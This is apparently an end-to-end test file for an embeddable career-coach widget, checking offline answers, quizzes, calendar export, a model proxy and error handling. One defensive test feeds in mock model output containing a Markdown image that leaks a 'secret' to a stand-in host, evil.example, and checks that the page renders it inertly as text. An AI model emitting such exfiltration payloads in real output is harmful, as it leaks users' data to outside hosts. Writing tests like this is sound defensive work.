/** The coach on a host's page: with no network at all, and with a model behind the host's own proxy, whatever that does. */
import type { Server } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import questions from '../../data/careers/backend-developer.questions.json' with { type: 'json' };
import * as scenes from '../coach/support/model-server.js';
import { createProxy, settingsFrom } from '../../examples/coach-endpoint/proxy.js';
import { axeFindings } from './support/axe.js';
import { openBrowser, settled, visibleText, visit } from './support/browser.js';
import { type HostServer, plainPage, startHost, strictPolicy } from './support/server.js';

const KEY = 'sk-the-key-that-nobody-sees';

let browser: Browser;
let context: BrowserContext;
let host: HostServer;
let model: scenes.ModelServer;

beforeAll(async () => {
  browser = await openBrowser();
  model = await scenes.startModel();
});
afterAll(async () => {
  await browser.close();
  await model.close();
});
beforeEach(async () => {
  host = await startHost({ policy: (nonce) => strictPolicy(nonce) });
  context = await browser.newContext({ viewport: { width: 900, height: 900 } });
});
afterEach(async () => {
  await context.close();
  await host.close();
});

const coach = (page: Page) => page.locator('career-coach');
const log = (page: Page) => coach(page).getByRole('log');
const button = (page: Page, name: string) => coach(page).getByRole('button', { name, exact: true }).last();
const ask = async (page: Page, question: string) => {
  await coach(page).getByRole('textbox', { name: 'Ask about this career' }).fill(question);
  await page.keyboard.press('Enter');
};

async function open(body: string) {
  host.put('/page.html', plainPage(body));
  const visited = await visit(context, `${host.url}/page.html`);
  await settled(visited.page);
  return visited;
}

describe('with networking off, in a plain page under the strict policy', () => {
  const offline = async () => {
    const visited = await open('<career-coach></career-coach>');
    await visited.page.waitForLoadState('networkidle');
    await context.setOffline(true);
    return visited;
  };

  it('ten questions are answered with their sources', async () => {
    const { page, complaints } = await offline();
    for (const [at, question] of [
      'What does a Backend Developer do all day?',
      'Do I need a degree?',
      'How do I become a Senior Backend Developer?',
      'Which books should I read?',
      'Is AI going to take this job?',
      'Tell me about SQL',
      'What does a Backend Architect need?',
      'What is hard about the work?',
      'Is it for me?',
      'How do I get better at testing?',
    ].entries()) {
      await ask(page, question);
      await expect.poll(() => coach(page).locator('.turn.you').count()).toBe(at + 1);
      const turn = coach(page).locator('.turn.it').last();
      await expect.poll(() => turn.locator('.sentences').count()).toBe(1);
      expect(await turn.locator('.source').count(), question).toBeGreaterThan(0);
      expect(await log(page).textContent(), question).not.toBe('');
    }
    expect(complaints).toEqual([]);
  });

  it('a whole test is taken, and its marks are set', async () => {
    const { page, complaints } = await offline();
    await ask(page, 'Test me on SQL');
    for (let at = 1; at <= 5; at++) {
      await coach(page)
        .getByRole('group', { name: `SQL, question ${at} of 5` })
        .waitFor();
      const stem = (await coach(page).locator('.quiz .asks').textContent())!.trim();
      const question = questions.questions.find((each) => each.stem === stem)!;
      const right = question.choices.find((choice) => choice.right);
      if (right) await coach(page).getByRole('radio', { name: right.text, exact: true }).check();
      else await coach(page).getByRole('textbox', { name: 'Your answer' }).fill(question.points.join('. '));
      await button(page, 'Check').click();
      await coach(page).locator('[part=check]').click();
    }
    await expect.poll(() => coach(page).locator('.over').textContent()).toContain('of five right.');
    await coach(page).locator('[part=set-marks]').click();
    await expect.poll(() => visibleText(page)).toContain('Your marks are set.');
    expect(complaints).toEqual([]);
  });

  it('a plan is made, and taken along as a calendar', async () => {
    const { page, complaints } = await offline();
    await ask(page, 'Make me a plan');
    await button(page, 'Make the plan').click();
    await expect.poll(() => coach(page).locator('.plan > li').count()).toBeGreaterThan(1);
    const [saved] = await Promise.all([page.waitForEvent('download'), button(page, 'To your calendar').click()]);
    expect(saved.suggestedFilename()).toBe('plan.ics');
    expect(await axeFindings(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('asks for nothing but the script and its pieces', async () => {
    const { page } = await open('<career-coach></career-coach>');
    await page.waitForLoadState('networkidle');
    await ask(page, 'Tell me about SQL');
    await expect.poll(() => log(page).textContent()).not.toBe('');
    expect(host.requests.filter((path) => !/^\/(page\.html|favicon\.ico|cdn\/.*\.js)$/.test(path))).toEqual([]);
  });
});

describe('through the host’s proxy, a model', () => {
  let proxy: Server;

  beforeEach(() => {
    const settings = settingsFrom({
      MODEL_URL: model.url,
      MODEL_KEY: KEY,
      MODEL_NAME: 'small',
      PAGE_ORIGIN: host.url,
    });
    proxy = createProxy(settings);
    // As a host's web server hands a path of its own to it.
    host.put('/coach', (request, response) => void proxy.emit('request', request, response));
  });
  afterEach(() => void proxy.close());

  const openCoach = async () => {
    const visited = await open('<career-coach engine="endpoint" endpoint="/coach"></career-coach>');
    await coach(visited.page).getByRole('group', { name: 'What goes along' }).waitFor();
    return visited;
  };
  const others = () => host.requests.filter((path) => !/^\/(page\.html|favicon\.ico|coach|cdn\/.*\.js)$/.test(path));

  it('answers as it speaks, and its sources open', async () => {
    model.play(scenes.streams('Databases ', 'first [1]. ', 'Then ', 'tests [2].'));
    const { page, complaints } = await openCoach();
    await ask(page, 'Which databases should I learn first?');
    await expect.poll(() => log(page).textContent()).toContain('Then tests.');
    await coach(page).getByRole('button', { name: 'Source 1' }).click();
    await expect.poll(() => coach(page).locator('.source-text').count()).toBe(1);
    expect(others()).toEqual([]);
    expect(complaints).toEqual([]);
    expect(JSON.stringify(model.received.at(-1)!.body)).not.toContain(KEY);
  });

  it('that answers with script or a Markdown image is shown as text, and nothing is asked for', async () => {
    model.play(scenes.streams(scenes.hostileText));
    const { page, complaints } = await openCoach();
    await ask(page, 'Which databases should I learn first?');
    await expect.poll(() => log(page).textContent()).toContain('![pixel](https://evil.example/pixel.png?q=secret)');
    expect(await page.title()).toBe('A page');
    expect(await coach(page).locator('img, script, a[href*=evil], a[href^=javascript]').count()).toBe(0);
    expect(others()).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('that is stopped leaves what came', async () => {
    model.play(scenes.stalls('Databases first [1]. And th'));
    const { page } = await openCoach();
    await ask(page, 'Which databases should I learn first?');
    await expect.poll(() => log(page).textContent()).toContain('Databases first.');
    await button(page, 'Stop').click();
    await expect.poll(() => visibleText(page)).toContain('Stopped here.');
    expect(await visibleText(page)).toContain('Databases first');
    await model.received.at(-1)!.gone;
  });

  it.each([
    ['429', scenes.fails(429, { 'retry-after': '9' }), 'The model is busy'],
    ['500', scenes.fails(500), 'The model did not answer'],
    ['a page in its place', scenes.isPage, 'The model did not answer'],
  ])('that fails by %s leaves the answer to the guide, with a way to ask again', async (_, scene, word) => {
    model.play(scene);
    const { page } = await openCoach();
    await ask(page, 'Tell me about SQL');
    await expect.poll(() => visibleText(page)).toContain(word);
    expect(await coach(page).locator('.turn.it .source').count()).toBeGreaterThan(0);
    model.play(scenes.streams('Joins first [1].'));
    await button(page, 'Ask the model again').click();
    await expect.poll(() => log(page).textContent()).toContain('Joins first.');
    expect(await coach(page).locator('.turn.you').count()).toBe(1);
    expect(others()).toEqual([]);
  });

  it('that breaks off in the middle keeps what came, and the field takes a question', async () => {
    model.play(scenes.breaks('Databases first [1]. And th'));
    const { page } = await openCoach();
    await ask(page, 'Tell me about SQL');
    await expect.poll(() => visibleText(page)).toContain('The answer broke off here.');
    expect(await visibleText(page)).toContain('Databases first');
    expect(await coach(page).locator('.fell-back').count()).toBe(1);
    model.play(scenes.streams('Tests [1].'));
    await ask(page, 'And then about tests?');
    await expect.poll(() => log(page).textContent()).toContain('Tests.');
    expect(await visibleText(page)).toContain('Databases first');
    expect(others()).toEqual([]);
  });
});

it('an endpoint of another origin that the page has not said it means is off, and says so', async () => {
  const { page, complaints } = await open(
    '<career-coach engine="endpoint" endpoint="http://127.0.0.1:9/coach"></career-coach>',
  );
  await expect.poll(() => visibleText(page)).toContain('cannot be asked, so the guide answers');
  await ask(page, 'Tell me about SQL');
  await expect.poll(() => log(page).textContent()).toContain('SQL');
  expect(complaints).toEqual([]);
});
